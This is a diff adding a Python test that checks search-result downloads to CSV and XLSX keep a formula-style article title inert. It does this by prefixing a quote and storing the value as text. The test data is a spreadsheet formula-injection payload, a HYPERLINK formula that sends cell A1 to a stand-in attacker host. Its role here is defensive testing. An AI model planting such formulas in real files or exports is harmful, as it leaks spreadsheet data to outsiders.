@@ -218,3 +218,21 @@ def test_no_dashboard_query_scans_the_assessments_inside_a_join(demo_db: str) ->
             plan = [row[-1] for row in conn.exec_driver_sql("EXPLAIN QUERY PLAN " + statement, parameters)]
             bad = [step for step in plan if "assessments" in step and "(is_current=?)" in step]
             assert not bad, (statement, plan)
+
+
+def test_search_downloads_keep_a_formula_title_inert(demo_db: str) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+    eng = make_engine(demo_db)
+    with eng.begin() as conn:
+        conn.execute(
+            text("UPDATE articles SET title = :t WHERE id = (SELECT min(id) FROM articles)"), {"t": hostile}
+        )
+    frame, _ = search(eng, SearchFilter())
+    assert hostile in list(frame["title"])
+    csv = pd.read_csv(io.BytesIO(to_csv_bytes(frame)), encoding="utf-8-sig")
+    assert "'" + hostile in list(csv["title"]) and hostile not in list(csv["title"])
+    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
+    assert sheet is not None
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(c.value == "'" + hostile and c.data_type == "s" for c in cells)
